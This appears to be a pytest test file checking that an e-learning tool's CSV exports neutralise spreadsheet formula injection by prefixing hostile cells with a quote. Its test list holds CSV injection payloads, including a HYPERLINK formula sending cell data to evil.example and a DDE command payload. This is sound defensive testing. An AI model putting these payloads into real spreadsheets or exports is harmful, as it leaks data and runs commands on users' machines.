"""CSV exports a spreadsheet will not run: `report baseline --csv` and `lrs query --format csv` neutralise cells
that start with =, +, -, @, a tab or a carriage return (OWASP's rule) unless ``--csv-formulas`` asks otherwise."""
from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner

from elearn_builder.cli.commands import main
from elearn_builder.report.csvcells import neutralise
from elearn_builder.xapi.generate import generate_statements, json_lines
from elearn_builder.xapi.lrs import csv_lines

EXT = "https://xapi.reflective-supervision.org.uk/extensions/"
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_gets_a_leading_quote(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Council A", "", "a=b", "0.5", -0.5, 3, None, True])
def test_other_cells_are_unchanged(value):
    assert neutralise(value) == value


def _hostile_statements() -> list[dict]:
    statements = list(generate_statements(seed=3, learners=6))
    for index, statement in enumerate(statements):
        value = HOSTILE[index % len(HOSTILE)]
        statement["context"]["extensions"][EXT + "organisation"] = value
        if "result" in statement and "response" in statement["result"]:
            statement["result"]["response"] = value
    return statements


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_lrs_query_csv_neutralises_formulas():
    text = "".join(csv_lines(_hostile_statements()))
    cells = _cells(text)
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" in cells and "'@SUM(1)" in cells
    assert "'-2+3" in cells


def test_lrs_query_csv_can_keep_formulas():
    cells = _cells("".join(csv_lines(_hostile_statements(), keep_formulas=True)))
    assert "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" in cells and "@SUM(1)" in cells


def test_report_baseline_csv_neutralises_formulas_and_the_option_keeps_them(tmp_path):
    source = tmp_path / "statements.jsonl"
    source.write_text("".join(json_lines(_hostile_statements())), encoding="utf-8")
    for option, folder in (([], tmp_path / "safe"), (["--csv-formulas"], tmp_path / "raw")):
        result = CliRunner().invoke(main, ["report", "baseline", str(source), "--csv", str(folder), *option])
        assert result.exit_code == 0, result.output
    safe = [c for path in sorted((tmp_path / "safe").glob("*.csv")) for c in _cells(path.read_text("utf-8"))]
    raw = [c for path in sorted((tmp_path / "raw").glob("*.csv")) for c in _cells(path.read_text("utf-8"))]
    assert any(c.startswith(("=", "+", "-2", "@")) for c in raw)  # the organisations are in the tables
    assert not [c for c in safe if c.startswith(("=", "+", "@", "\t", "\r")) or c.startswith("-2")]
    assert "'@SUM(1)" in safe


def test_the_option_is_documented():
    for command in (["lrs", "query"], ["report", "baseline"]):
        assert "--csv-formulas" in CliRunner().invoke(main, [*command, "--help"]).output
